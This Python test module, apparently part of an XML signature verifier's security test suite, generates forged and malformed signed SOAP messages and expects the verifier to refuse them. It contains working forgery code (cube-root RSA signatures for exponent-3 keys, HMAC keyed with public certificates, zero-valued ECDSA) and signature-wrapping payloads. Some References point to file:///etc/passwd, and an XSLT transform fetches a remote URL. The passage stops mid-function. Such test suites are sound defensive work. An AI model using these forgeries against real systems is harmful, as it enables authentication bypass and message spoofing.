"""Signatures that must not count: altered, downgraded, confused, forged, over nothing, or over something else.

Knows the attacks on algorithms (Bleichenbacher 2006, BERserk, HMAC truncation, "psychic" ECDSA, HMAC with a public key), on SignedInfo
and its leaves (xml-crypto 2025), on References and Transforms (Hill 2007, EC DSS 2019), and on canonical forms.
"""

import hashlib
import hmac
from collections.abc import Callable, Iterator
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, utils

from tests.attacker.campaign import REFUSE, SAME, Attack, Case, Shot
from tests.attacker.honest import (
    DS,
    ENVELOPED,
    EXC,
    INC,
    MORE,
    PSS,
    RSA_SHA256,
    SHA256,
    Form,
    Letter,
    Reference,
    Sealing,
    b64,
    canonical,
    digest,
    ec_value,
    frame,
    rsa_value,
    seal,
)

EMPTY = digest(b"")
VERSIONS = ("1.1", "1.2")

# --- algorithms ----------------------------------------------------------------------------------------------------


def honest_with(**how: Any) -> Callable[[Case], Shot]:
    """The partner's own key signs its own message in a way that is not allowed."""
    return lambda case: Shot(case.seal(**how))


def evil_with(**how: Any) -> Callable[[Case], Shot]:
    """A message that nobody signed, with digests that fit and a value made up without the key."""
    return lambda case: Shot(case.message(case.evil, Sealing(**how)))


def digest_as(method: str) -> Callable[[Case], Shot]:
    def references(letter: Letter, _: list[Reference]) -> list[Reference]:
        parts = ((letter.clock, "Time"), (letter.body, "Body"))
        return [Reference(f"#{name}", digest(canonical(part), method), method) for part, name in parts]

    return honest_with(references=references)


def value_of_another(**choices: Any) -> Callable[[Case], Shot]:
    """RSA values of another kind than SignatureMethod says."""

    def shoot(case: Case) -> Shot:
        return Shot(
            case.seal(
                value=lambda octets: rsa_value(
                    case.sender.key, octets, choices.get("hash", "SHA256"), choices.get("pad")
                )
            )
        )

    return shoot


def pss(salt: int | Any, hash_name: str = "SHA256") -> padding.PSS:
    return padding.PSS(padding.MGF1(getattr(hashes, hash_name)()), salt)


def secrets(case: Case) -> dict[str, bytes]:
    """Everything public that a confused verifier may take for an HMAC key."""
    der, encoding = case.sender.der, serialization.Encoding
    public = case.sender.key.public_key()
    spki = public.public_bytes(encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    return {
        "certificate DER": der,
        "certificate PEM": case.sender.certificate.public_bytes(encoding.PEM),
        "certificate base64": b64(der).encode(),
        "key DER": spki,
        "key PEM": public.public_bytes(encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo),
        "key PKCS1": public.public_bytes(encoding.DER, serialization.PublicFormat.PKCS1),
        "modulus": public.public_numbers().n.to_bytes(256, "big"),
        "nothing": b"",
        "zero": bytes(32),
    }


def hmac_with(secret: str, hash_name: str, method: str, truncated: int | None) -> Callable[[Case], Shot]:
    def shoot(case: Case) -> Shot:
        def value(octets: bytes) -> bytes:
            made = hmac.digest(secrets(case)[secret], octets, hash_name)
            return made if truncated is None else made[: (truncated + 7) // 8]

        inner = "" if truncated is None else f"<ds:HMACOutputLength>{truncated}</ds:HMACOutputLength>"
        return Shot(case.message(case.evil, Sealing(method=method, value=value, method_inner=inner)))

    return shoot


SHA256_INFO = bytes.fromhex("3031300d060960864801650304020105000420")


def cube_root(octets: bytes) -> bytes:
    """The least number whose cube begins with these octets in 2048 bits."""
    least = int.from_bytes(octets.ljust(256, b"\0"), "big")
    low, high = 0, 1 << 700
    while low < high:
        middle = (low + high) // 2
        low, high = (middle + 1, high) if middle**3 < least else (low, middle)
    return low.to_bytes(256, "big")


def forged_rsa(kind: str) -> Callable[[bytes], bytes]:
    """PKCS#1 v1.5 values for a key of exponent 3, without the key."""

    def value(octets: bytes) -> bytes:
        hashed = hashlib.sha256(octets).digest()
        if kind == "garbage behind":
            return cube_root(b"\0\x01" + b"\xff" * 8 + b"\0" + SHA256_INFO + hashed)
        if kind == "no padding":
            return cube_root(b"\0\x01\0" + SHA256_INFO + hashed)
        if kind == "no parameters":
            return cube_root(
                b"\0\x01" + b"\xff" * 8 + b"\0" + bytes.fromhex("302f300b06096086480165030402010420") + hashed
            )
        if kind == "long length":  # BERserk
            return cube_root(
                b"\0\x01" + b"\xff" * 8 + b"\0" + bytes.fromhex("30ff31300d0609608648016503040201050004ff20") + hashed
            )
        raise AssertionError(kind)

    return value


def numbers(identity: Any) -> Any:
    return identity.key.public_key().public_numbers().n


def fixed_rsa(pick: str) -> Callable[[Case], Shot]:
    """Values that are no signature at all."""

    def shoot(case: Case) -> Shot:
        n = numbers(case.sender)
        chosen = {
            "zero": bytes(256),
            "one": (1).to_bytes(256, "big"),
            "modulus": n.to_bytes(256, "big"),
            "modulus less one": (n - 1).to_bytes(256, "big"),
            "all ones": b"\xff" * 256,
            "empty": b"",
            "one octet": b"\0",
            "a kilobyte": bytes(1024),
            "a megabyte": bytes(1 << 20),
        }[pick]
        return Shot(case.message(case.evil, Sealing(value=lambda _: chosen)))

    return shoot


def bent_rsa(pick: str) -> Callable[[Case], Shot]:
    """The true value, written in other ways."""

    def shoot(case: Case) -> Shot:
        def value(octets: bytes) -> bytes:
            true, n = rsa_value(case.sender.key, octets), int(numbers(case.sender))
            number = int.from_bytes(true, "big")
            return {
                "plus modulus": (number + n).to_bytes(257, "big"),
                "zero before": b"\0" + true,
                "zero behind": true + b"\0",
                "less the last": true[:-1],
                "negative": (n - number).to_bytes(256, "big"),
                "reversed": true[::-1],
                "bit": bytes([true[0] ^ 1]) + true[1:],
            }[pick]

        return Shot(case.seal(value=value))

    return shoot


P256 = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def psychic(r: int, s: int, width: int = 32) -> Callable[[Case], Shot]:
    return evil_with(value=lambda _: r.to_bytes(width, "big") + s.to_bytes(width, "big"))


def bent_ec(pick: str) -> Callable[[Case], Shot]:
    def shoot(case: Case) -> Shot:
        def value(octets: bytes) -> bytes:
            true = ec_value(case.sender.key, octets)
            r, s = int.from_bytes(true[:32], "big"), int.from_bytes(true[32:], "big")
            return {
                "DER": utils.encode_dss_signature(r, s),
                "the other s": true[:32] + (P256 - s).to_bytes(32, "big"),
                "zeros before": bytes(2) + true[:32] + bytes(2) + true[32:],
                "r and s exchanged": true[32:] + true[:32],
                "r plus order": (r + P256).to_bytes(33, "big") + s.to_bytes(33, "big"),
            }[pick]

        return Shot(case.seal(value=value))

    return shoot


def algorithms() -> Iterator[Attack]:
    policy = "a weak or unknown algorithm counts"
    weak: dict[str, tuple[str, str, str]] = {
        "RSA-SHA1": (f"{DS}rsa-sha1", "SHA1", "SHA-1 deprecation, RFC 9231"),
        "RSA-MD5": (f"{MORE}rsa-md5", "MD5", "RFC 9231"),
        "RSA-SHA224": (f"{MORE}rsa-sha224", "SHA224", "RFC 9231"),
        "none": ("none", "SHA256", "JOSE alg none, 2015"),
        "empty": ("", "SHA256", "JOSE alg none, 2015"),
        "unknown": ("urn:unknown", "SHA256", "xmlsec fallback keys"),
        "relative": ("#rsa-sha256", "SHA256", "algorithm confusion"),
        "a blank behind": (f"{RSA_SHA256} ", "SHA256", "algorithm confusion"),
        "in capitals": (RSA_SHA256.upper(), "SHA256", "algorithm confusion"),
        "DSA-SHA1": (f"{DS}dsa-sha1", "SHA1", "algorithm confusion"),
        "DSA-SHA256": ("http://www.w3.org/2009/xmldsig11#dsa-sha256", "SHA256", "algorithm confusion"),
        "a digest's URI": (SHA256, "SHA256", "algorithm confusion"),
        "SHA512 said, SHA256 meant": (f"{MORE}rsa-sha512", "SHA256", "algorithm confusion"),
        "SHA256 said, SHA512 meant": (RSA_SHA256, "SHA512", "algorithm confusion"),
        "ECDSA said of RSA": (f"{MORE}ecdsa-sha256", "SHA256", "algorithm confusion"),
    }
    for version in VERSIONS:
        form = Form(version)
        for name, (method, hash_name, source) in weak.items():

            def shoot(case: Case, method: str = method, hash_name: str = hash_name) -> Shot:
                return Shot(
                    case.seal(method=method, value=lambda octets: rsa_value(case.sender.key, octets, hash_name))
                )

            yield Attack("algorithms", f"signature {name}", source, policy, shoot, form=form)
        for method in (
            f"{DS}sha1",
            f"{MORE}md5",
            f"{MORE}sha224",
            f"{PSS}sha3-256",
            "",
            "none",
            f"{SHA256} ",
            RSA_SHA256,
        ):
            yield Attack("algorithms", f"digest {method!r}", "RFC 9231", policy, digest_as(method), form=form)
        others: dict[str, dict[str, Any]] = {
            "PSS value under PKCS1": {"pad": pss(32)},
            "PKCS1 value of SHA-1": {"hash": "SHA1"},
        }
        for name, choices in others.items():
            yield Attack("algorithms", name, "algorithm confusion", policy, value_of_another(**choices), form=form)
        for salt in (0, 1, 20, 64, padding.PSS.MAX_LENGTH):

            def salted(case: Case, salt: Any = salt) -> Shot:
                return Shot(
                    case.seal(
                        method=f"{PSS}sha256-rsa-MGF1",
                        value=lambda octets: rsa_value(case.sender.key, octets, pad=pss(salt)),
                    )
                )

            yield Attack("algorithms", f"PSS with a salt of {salt}", "RFC 9231 2.3.10", policy, salted, SAME, form=form)
    yield from without_a_key()


def without_a_key() -> Iterator[Attack]:
    wins = "a value made without the private key counts"
    for secret in (
        "certificate DER",
        "certificate PEM",
        "certificate base64",
        "key DER",
        "key PEM",
        "key PKCS1",
        "modulus",
        "nothing",
        "zero",
    ):
        for hash_name, method in (
            ("sha1", f"{DS}hmac-sha1"),
            ("sha256", f"{MORE}hmac-sha256"),
            ("sha512", f"{MORE}hmac-sha512"),
            ("sha256", RSA_SHA256),
        ):
            source = "xml-crypto GHSA-c27r-x354-4m68, signxml CVE-2025-48994"
            yield Attack(
                "forgeries",
                f"HMAC-{hash_name} by {secret} as {method}",
                source,
                wins,
                hmac_with(secret, hash_name, method, None),
            )
    for length in (0, 1, 8, 80):
        for method in (f"{DS}hmac-sha1", f"{MORE}hmac-sha256", RSA_SHA256):
            name = f"HMACOutputLength {length} as {method}"
            yield Attack("forgeries", name, "CVE-2009-0217", wins, hmac_with("nothing", "sha256", method, length))
    for kind in ("garbage behind", "no padding", "no parameters", "long length"):
        source = "Bleichenbacher 2006, CVE-2006-4339; BERserk, CVE-2014-1568"
        yield Attack("forgeries", f"cube root, {kind}", source, wins, evil_with(value=forged_rsa(kind)), role="three")
    for pick in (
        "zero",
        "one",
        "modulus",
        "modulus less one",
        "all ones",
        "empty",
        "one octet",
        "a kilobyte",
        "a megabyte",
    ):
        yield Attack("forgeries", f"RSA value {pick}", "RFC 8017 5.2.2", wins, fixed_rsa(pick))
    for pick in ("plus modulus", "zero before", "zero behind", "less the last", "negative", "reversed", "bit"):
        yield Attack(
            "forgeries",
            f"RSA value bent: {pick}",
            "RFC 8017 8.2.2",
            "a value of the wrong length counts",
            bent_rsa(pick),
        )
    for r, s in ((0, 0), (0, 1), (1, 0), (P256, P256), (P256, 1), (1, 1), (P256 - 1, 1)):
        yield Attack(
            "forgeries", f"ECDSA r={r % 99991} s={s % 99991}", "CVE-2022-21449", wins, psychic(r, s), role="elliptic"
        )
    yield Attack("forgeries", "ECDSA empty", "CVE-2022-21449", wins, evil_with(value=lambda _: b""), role="elliptic")
    for width in (1, 31, 33, 48, 66, 4096):
        yield Attack(
            "forgeries", f"ECDSA zeros of {width}", "CVE-2022-21449", wins, psychic(0, 0, width), role="elliptic"
        )
    for pick in ("DER", "the other s", "zeros before", "r and s exchanged", "r plus order"):
        yield Attack(
            "forgeries",
            f"ECDSA bent: {pick}",
            "Wycheproof ecdsa",
            "a bent value counts",
            bent_ec(pick),
            SAME,
            role="elliptic",
        )
    for method in (
        RSA_SHA256,
        f"{PSS}sha256-rsa-MGF1",
        f"{MORE}hmac-sha256",
        f"{MORE}ecdsa-sha1",
        f"{MORE}ecdsa-sha512",
    ):
        yield Attack(
            "forgeries", f"{method} of an EC key", "CVE-2021-21239", wins, honest_with(method=method), role="elliptic"
        )


# --- SignedInfo and its leaves -------------------------------------------------------------------------------------


def edited(change: Callable[[str, Case], str]) -> Callable[[Case], Shot]:
    """The signed bytes, edited."""

    def shoot(case: Case) -> Shot:
        text = case.base.decode()
        made = change(text, case)
        assert made != text, "an attack that changes nothing"
        return Shot(made.encode())

    return shoot


def between(text: str, start: str, end: str, nth: int = 0) -> str:
    at = -1
    for _ in range(nth + 1):
        at = text.index(start, at + 1)
    return text[at : text.index(end, at) + len(end)]


def evil_info(case: Case) -> str:
    """A SignedInfo whose digests fit the false Body, unsigned."""
    return between(case.message(case.evil, Sealing()).decode(), "<ds:SignedInfo>", "</ds:SignedInfo>")


def with_evil_body(text: str, case: Case) -> str:
    return text.replace(case.honest, case.evil)


def evil_digest(text: str, case: Case) -> tuple[str, str]:
    """The true and the false DigestValue of Body."""
    value = between(text, "<ds:DigestValue>", "</ds:DigestValue>", 1)
    return value, between(evil_info(case), "<ds:DigestValue>", "</ds:DigestValue>", 1)


def plain_value(element: str) -> str:
    return element.removeprefix("<ds:DigestValue>").removesuffix("</ds:DigestValue>")


def infos() -> Iterator[Attack]:
    wins = "the digests that are read are not those that were signed"

    def two_infos(order: str) -> Callable[[str, Case], str]:
        def change(text: str, case: Case) -> str:
            true, false = between(text, "<ds:SignedInfo>", "</ds:SignedInfo>"), evil_info(case)
            put = {
                "false first": false + true,
                "false last": true + false,
                "false at the end": true,
                "within": true.replace("</ds:SignedInfo>", f"{false}</ds:SignedInfo>"),
                "around": false.replace("</ds:SignedInfo>", f"{true}</ds:SignedInfo>"),
                "in an Object": true,
                "without namespace": false.replace("ds:SignedInfo", "SignedInfo") + true,
                "of a strange namespace": false.replace("<ds:SignedInfo", '<x:SignedInfo xmlns:x="urn:x"').replace(
                    "/ds:SignedInfo", "/x:SignedInfo"
                )
                + true,
            }[order]
            made = with_evil_body(text, case).replace(true, put)
            if order == "false at the end":
                made = made.replace("</ds:Signature>", f"{false}</ds:Signature>")
            if order == "in an Object":
                made = made.replace("</ds:Signature>", f"<ds:Object>{false}</ds:Object></ds:Signature>")
            return made

        return change

    for order in (
        "false first",
        "false last",
        "false at the end",
        "within",
        "around",
        "in an Object",
        "without namespace",
        "of a strange namespace",
    ):
        for version in VERSIONS:
            yield Attack(
                "signed-info",
                f"two SignedInfo, {order}",
                "CVE-2025-29774",
                wins,
                edited(two_infos(order)),
                form=Form(version),
            )

    def values(pattern: str) -> Callable[[str, Case], str]:
        def change(text: str, case: Case) -> str:
            true, false = evil_digest(text, case)
            put = pattern.replace("TRUE", plain_value(true)).replace("FALSE", plain_value(false))
            return with_evil_body(text, case).replace(true, put)

        return change

    for name, pattern in {
        "false digest in a comment before": "<ds:DigestValue><!--FALSE-->TRUE</ds:DigestValue>",
        "true digest in a comment": "<ds:DigestValue><!--TRUE-->FALSE</ds:DigestValue>",
        "false digest, comment, true digest": "<ds:DigestValue>FALSE<!-- -->TRUE</ds:DigestValue>",
        "true digest, comment, false digest": "<ds:DigestValue>TRUE<!-- -->FALSE</ds:DigestValue>",
        "true digest in a processing instruction": "<ds:DigestValue><?x TRUE?>FALSE</ds:DigestValue>",
        "two DigestValues, false first": "<ds:DigestValue>FALSE</ds:DigestValue><ds:DigestValue>TRUE</ds:DigestValue>",
        "two DigestValues, false last": "<ds:DigestValue>TRUE</ds:DigestValue><ds:DigestValue>FALSE</ds:DigestValue>",
        "a child in DigestValue": "<ds:DigestValue>FALSE<x>TRUE</x></ds:DigestValue>",
        "empty": "<ds:DigestValue></ds:DigestValue>",
        "absent": "",
        "digest of nothing": f"<ds:DigestValue>{EMPTY}</ds:DigestValue>",
        "false": "<ds:DigestValue>FALSE</ds:DigestValue>",
        "no base64": "<ds:DigestValue>!!!!</ds:DigestValue>",
        "0e numbers": "<ds:DigestValue>0e1</ds:DigestValue>",
    }.items():
        for version in VERSIONS:
            yield Attack(
                "signed-info",
                name,
                "CVE-2025-29775; xmlseclibs 2018",
                wins,
                edited(values(pattern)),
                form=Form(version),
            )
    yield from leaves()


def leaves() -> Iterator[Attack]:
    wins = "the signature counts although its XML was changed"

    def swap(find: str, put: str, nth: int = 0) -> Callable[[str, Case], str]:
        def change(text: str, case: Case) -> str:
            parts = text.split(find)
            return find.join(parts[: nth + 1]) + put + find.join(parts[nth + 1 :])

        return change

    def removed(start: str, end: str) -> Callable[[str, Case], str]:
        return lambda text, case: text.replace(between(text, start, end), "")

    def doubled(start: str, end: str) -> Callable[[str, Case], str]:
        def change(text: str, case: Case) -> str:
            found = between(text, start, end)
            return text.replace(found, found * 2)

        return change

    def first_bit(text: str, case: Case) -> str:
        value = between(text, "<ds:SignatureValue>", "</ds:SignatureValue>")
        place = len("<ds:SignatureValue>")
        return text.replace(value, value[:place] + ("A" if value[place] != "A" else "B") + value[place + 1 :])

    changes: dict[str, tuple[Callable[[str, Case], str], str]] = {
        "no Signature": (removed("<ds:Signature>", "</ds:Signature>"), REFUSE),
        "no SignedInfo": (removed("<ds:SignedInfo>", "</ds:SignedInfo>"), REFUSE),
        "no SignatureValue": (removed("<ds:SignatureValue>", "</ds:SignatureValue>"), REFUSE),
        "no KeyInfo": (removed("<ds:KeyInfo>", "</ds:KeyInfo>"), REFUSE),
        "no Security": (removed("<wsse:Security ", "</wsse:Security>"), REFUSE),
        "no Header": (removed("<s:Header>", "</s:Header>"), REFUSE),
        "no Timestamp": (removed("<wsu:Timestamp ", "</wsu:Timestamp>"), REFUSE),
        "no token": (removed("<wsse:BinarySecurityToken ", "</wsse:BinarySecurityToken>"), REFUSE),
        "SignatureValue altered": (first_bit, REFUSE),
        "two Signatures, the same": (doubled("<ds:Signature>", "</ds:Signature>"), REFUSE),
        "two SignatureValues": (doubled("<ds:SignatureValue>", "</ds:SignatureValue>"), REFUSE),
        "two KeyInfos": (doubled("<ds:KeyInfo>", "</ds:KeyInfo>"), REFUSE),
        "two tokens of one id": (doubled("<wsse:BinarySecurityToken ", "</wsse:BinarySecurityToken>"), REFUSE),
        "two Timestamps of one id": (doubled("<wsu:Timestamp ", "</wsu:Timestamp>"), REFUSE),
        "two References of one URI": (doubled("<ds:Reference ", "</ds:Reference>"), REFUSE),
        "two CanonicalizationMethods": (doubled("<ds:CanonicalizationMethod ", "/>"), REFUSE),
        "a comment in SignedInfo": (swap("<ds:SignedInfo>", "<ds:SignedInfo><!-- -->"), REFUSE),
        "a comment in SignatureValue": (swap("<ds:SignatureValue>", "<ds:SignatureValue><!-- -->"), REFUSE),
        "a comment in Security": (swap("<ds:Signature>", "<!-- --><ds:Signature>"), REFUSE),
        "a comment in Created": (swap("<wsu:Created>20", "<wsu:Created>20<!-- -->"), REFUSE),
        "a comment in the token": (swap('Base64Binary">MII', 'Base64Binary">MII<!-- -->'), REFUSE),
        "a processing instruction in SignedInfo": (swap("<ds:SignedInfo>", "<ds:SignedInfo><?x y?>"), REFUSE),
        "the first Reference removed": (removed("<ds:Reference ", "</ds:Reference>"), REFUSE),
        "a Reference to nothing": (swap('URI="#Body"', 'URI="#Nothing"'), REFUSE),
        "a Reference without URI": (swap(' URI="#Body"', ""), REFUSE),
        "an empty Reference": (swap('URI="#Body"', 'URI=""'), REFUSE),
        "the Reference to Time goes to Body": (swap('URI="#Time"', 'URI="#Body"'), REFUSE),
        "Signature in another namespace": (
            lambda text, case: text.replace(f'xmlns:ds="{DS}"', 'xmlns:ds="http://www.w3.org/2000/09/xmldsig"'),
            REFUSE,
        ),
        "Signature is called Signatur": (lambda text, case: text.replace("ds:Signature>", "ds:Signatur>"), REFUSE),
        "an unknown element in Signature": (swap("</ds:Signature>", '<x:y xmlns:x="urn:x"/></ds:Signature>'), SAME),
        "text in SignedInfo": (swap("<ds:SignedInfo>", "<ds:SignedInfo>x"), REFUSE),
        "Algorithm twice, by prefix": (
            swap(
                f'<ds:SignatureMethod Algorithm="{RSA_SHA256}"',
                f'<ds:SignatureMethod ds:Algorithm="none" Algorithm="{RSA_SHA256}"',
            ),
            REFUSE,
        ),
    }
    for name, (change, expect) in changes.items():
        for version in VERSIONS:
            yield Attack(
                "signed-info",
                name,
                "XMLDSig 1.1 4; XMLDSig best practices",
                wins,
                edited(change),
                expect,
                form=Form(version),
            )


# --- what is referred to -------------------------------------------------------------------------------------------


def chosen_references(pick: str) -> Callable[[Case], Shot]:
    def shoot(case: Case) -> Shot:
        canary = case.campaign.canary.url

        def references(letter: Letter, true: list[Reference]) -> list[Reference]:
            time, body = true
            whole = digest(canonical(letter.root))
            return {
                "none": [],
                "only Timestamp": [time],
                "only Body": [body],
                "no URI": [time, Reference(None, body.value)],
                "empty URI": [time, Reference("", whole)],
                "empty URI, enveloped": [time, Reference("", whole, transforms=(ENVELOPED, EXC))],
                "empty URI alone, enveloped": [Reference("", whole, transforms=(ENVELOPED, EXC))],
                "# alone": [time, Reference("#", body.value)],
                "xpointer root": [time, Reference("#xpointer(/)", whole)],
                "xpointer id": [time, Reference("#xpointer(id('Body'))", body.value)],
                "xpointer id, both": [
                    Reference("#xpointer(id('Time'))", time.value),
                    Reference('#xpointer(id("Body"))'.replace('"', "&quot;"), body.value),
                ],
                "element scheme": [time, Reference("#element(/1/2)", body.value)],
                "no fragment sign": [time, Reference("Body", body.value)],
                "document and fragment": [time, Reference("envelope.xml#Body", body.value)],
                "http": [time, Reference(f"{canary}/Body", body.value)],
                "http beside": [time, body, Reference(f"{canary}/x", EMPTY)],
                "file": [time, Reference("file:///etc/passwd", body.value)],
                "file beside": [time, body, Reference("file:///etc/passwd", EMPTY)],
                "cid": [time, Reference("cid:Body", body.value)],
                "cid beside": [time, body, Reference("cid:nothing", EMPTY)],
                "data": [time, Reference("data:,", EMPTY)],
                "thousand": [time, body] * 500,
                "Body as a child": [time, Reference("#Operation", body.value)],
                "of type Manifest": [time, Reference("#Body", body.value, attributes=f' Type="{DS}Manifest"')],
                "of type Object": [time, Reference("#Body", body.value, attributes=f' Type="{DS}Object"')],
            }[pick]

        return Shot(case.seal(references=references))

    return shoot


def manifest(case: Case) -> Shot:
    """Body is referred to by a Manifest only, which core validation does not check."""
    letter = Letter(case.message(case.evil, Sealing()))
    inner = Reference("#Body", digest(canonical(letter.body))).text()
    held = f'<ds:Object><ds:Manifest Id="Many">{inner}</ds:Manifest></ds:Object>'
    alone = Letter(
        frame(case.form, case.sender, case.evil).replace("<!--sign-->", f"<ds:Signature>{held}</ds:Signature>").encode()
    )
    value = digest(canonical(alone.root.find(f".//{{{DS}}}Manifest")))

    def references(_: Letter, true: list[Reference]) -> list[Reference]:
        return [true[0], Reference("#Many", value, attributes=f' Type="{DS}Manifest"')]

    return Shot(case.message(case.evil, Sealing(references=references, attached=held)))


XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"
XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
FILTER2 = "http://www.w3.org/2002/06/xmldsig-filter2"
STR_TRANSFORM = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#STR-Transform"


def whole(algorithm: str, inner: str) -> str:
    return f'<ds:Transform Algorithm="{algorithm}">{inner}</ds:Transform>'


def transforms(canary: str) -> dict[str, tuple[tuple[str, ...] | None, str]]:
    """Chains of transforms, and what digest a careless verifier would compute: that of `nothing` or of the `body`."""
    xslt = (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
        f"<xsl:value-of select=\"document('{canary}/xslt')\"/></xsl:template></xsl:stylesheet>"
    )
    loop = (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
        '<xsl:call-template name="f"/></xsl:template><xsl:template name="f"><xsl:call-template name="f"/></xsl:template></xsl:stylesheet>'
    )
    slow = "count(//*[count(//*[count(//*[count(//*) > 0]) > 0]) > 0]) > 0"
    return {
        "XSLT that fetches": ((whole(XSLT, xslt), EXC), "nothing"),
        "XSLT that never ends": ((whole(XSLT, loop), EXC), "nothing"),
        "XPath that selects nothing": ((whole(XPATH, "<ds:XPath>false()</ds:XPath>"), EXC), "nothing"),
        "XPath that selects all": ((whole(XPATH, "<ds:XPath>true()</ds:XPath>"), EXC), "body"),
        "XPath that is slow": ((whole(XPATH, f"<ds:XPath>{slow.replace('>', '&gt;')}</ds:XPath>"), EXC), "nothing"),
        "XPath filter 2, subtract": (
            (whole(FILTER2, f'<f:XPath xmlns:f="{FILTER2}" Filter="subtract">/</f:XPath>'), EXC),
            "nothing",
        ),
        "base64": ((f"{DS}base64",), "nothing"),
        "base64 after c14n": ((EXC, f"{DS}base64"), "nothing"),
        "decryption": (("http://www.w3.org/2002/07/decrypt#XML", EXC), "body"),
        "relationship": (("http://schemas.openxmlformats.org/package/2006/RelationshipTransform",), "nothing"),
        "unknown": (("urn:unknown",), "nothing"),
        "unknown, then c14n": (("urn:unknown", EXC), "body"),
        "c14n, then unknown": ((EXC, "urn:unknown"), "body"),
        "with comments": ((f"{EXC}WithComments",), "body"),
        "inclusive with comments": ((f"{INC}#WithComments",), "body"),
        "C14N 1.1": (("http://www.w3.org/2006/12/xml-c14n11",), "body"),
        "C14N 2": (("http://www.w3.org/2010/xml-c14n2",), "body"),
        "minimal C14N": (("http://www.w3.org/2000/09/xmldsig#minimal",), "body"),
        "hundred": ((EXC,) * 100, "body"),
        "ten thousand": ((EXC,) * 10_000, "body"),
        "enveloped twice": ((ENVELOPED, ENVELOPED, EXC), "body"),
        "c14n, then enveloped": ((EXC, ENVELOPED), "body"),
        "STR-Transform of Body": (
            (
                whole(
                    STR_TRANSFORM,
                    f'<wsse:TransformationParameters><ds:CanonicalizationMethod Algorithm="{EXC}"/></wsse:TransformationParameters>',
                ),
            ),
            "body",
        ),
        "empty algorithm": (("",), "body"),
        "no Algorithm": (("<ds:Transform/>",), "body"),
        "empty chain": ((), "body"),
        "attachment": (
            ("http://docs.oasis-open.org/wss/oasis-wss-SwAProfile-1.1#Attachment-Content-Signature-Transform",),
            "body",
        ),
    }


def transformed(chain: tuple[str, ...] | None, taken: str, *, evil: bool) -> Callable[[Case], Shot]:
    def shoot(case: Case) -> Shot:
        def references(letter: Letter, true: list[Reference]) -> list[Reference]:
            return [true[0], Reference("#Body", EMPTY if taken == "nothing" else true[1].value, transforms=chain)]

        return Shot(case.message(case.evil if evil else case.honest, Sealing(references=references)))

    return shoot


def swapped_body(chain: tuple[str, ...]) -> Callable[[Case], Shot]:
    """Signed honestly with a transform that selects nothing; then the Body is exchanged: the digest still fits."""

    def shoot(case: Case) -> Shot:
        def references(_: Letter, true: list[Reference]) -> list[Reference]:
            return [true[0], Reference("#Body", EMPTY, transforms=chain)]

        return Shot(case.seal(references=references).decode().replace(case.honest, case.evil).encode())

    return shoot


def prefix_list(prefixes: str) -> str:
    return whole(EXC, f'<e:InclusiveNamespaces xmlns:e="{EXC}" PrefixList="{prefixes}"/>')


def references() -> Iterator[Attack]:
    source = "Hill 2007, Command Injection in XML Signatures; XMLDSig best practices"
    wins = "a reference that covers something else counts"
    picks = (
        "none", "only Timestamp", "only Body", "no URI", "empty URI", "empty URI, enveloped", "empty URI alone, enveloped", "# alone",
        "xpointer root", "xpointer id", "xpointer id, both", "element scheme", "no fragment sign", "document and fragment", "http",
        "http beside", "file", "file beside", "cid", "cid beside", "data", "thousand", "Body as a child", "of type Manifest", "of type Object",
    )  # fmt: skip
    for version in VERSIONS:
        form = Form(version)
        for pick in picks:
            expect = SAME if pick.startswith("of type") else REFUSE
            yield Attack("references", pick, source, wins, chosen_references(pick), expect, form=form)
        yield Attack("references", "Manifest", source, wins, manifest, form=form)
        for name, (chain, taken) in transforms("http://127.0.0.1:1").items():

            def fetching(case: Case, name: str = name) -> Shot:
                found, what = transforms(case.campaign.canary.url)[name]
                return transformed(found, what, evil=False)(case)

            expect = SAME if name == "empty chain" else REFUSE
            yield Attack(
                "transforms",
                name,
                "Hill 2007; EC DSS study 2019; XMLDSig best practices",
                wins,
                fetching,
                expect,
                form=form,
            )
            if taken == "nothing" and chain:
                yield Attack(
                    "transforms",
                    f"{name}, Body exchanged",
                    "CVE-2025-66568, PortSwigger 2025",
                    wins,
                    swapped_body(chain),
                    form=form,
                )
        yield from canonical_forms(form)


def canonical_forms(form: Form) -> Iterator[Attack]:
    wins = "SignedInfo is read in a form that was not agreed"
    source = "XMLDSig best practices; CVE-2025-66568"
    method = "<ds:CanonicalizationMethod {}/>".format
    inner = f'<ds:CanonicalizationMethod Algorithm="{EXC}">{{}}</ds:CanonicalizationMethod>'.format
    for name, text in {
        "absent": "",
        "no Algorithm": method(""),
        "empty": method('Algorithm=""'),
        "unknown": method('Algorithm="urn:unknown"'),
        "exclusive with comments": method(f'Algorithm="{EXC}WithComments"'),
        "inclusive with comments": method(f'Algorithm="{INC}#WithComments"'),
        "C14N 1.1": method('Algorithm="http://www.w3.org/2006/12/xml-c14n11"'),
        "XSLT": method(f'Algorithm="{XSLT}"'),
        "XPath": method(f'Algorithm="{XPATH}"'),
        "base64": method(f'Algorithm="{DS}base64"'),
        "XPath within": inner("<ds:XPath>false()</ds:XPath>"),
    }.items():
        yield Attack("canonical", name, source, wins, honest_with(canonical_text=text), form=form)
    for name, prefixes, expect in (
        ("empty", "", SAME),
        ("#default", "#default", SAME),
        ("unknown prefixes", "a b c", SAME),
        ("the same, often", "s " * 30, SAME),
        ("too many", " ".join(f"p{number}" for number in range(5000)), REFUSE),
        ("no names", "&lt;x&gt; 1 : ''", SAME),
        ("xml and xmlns", "xml xmlns", SAME),
    ):

        def listed(case: Case, prefixes: str = prefixes) -> Shot:
            def chosen(letter: Letter, true: list[Reference]) -> list[Reference]:
                return [true[0], Reference("#Body", true[1].value, transforms=(prefix_list(prefixes),))]

            return Shot(case.seal(references=chosen))

        yield Attack("canonical", f"PrefixList {name}", "exc-C14N 1.0 3", wins, listed, expect, form=form)
    for name, text in {
        "namespace": 'xmlns:v="1"',
        "used namespace": 'xmlns:v="1" v:a="1"',
        "namespace ..": 'xmlns:v="../x" v:a="1"',
    }.items():

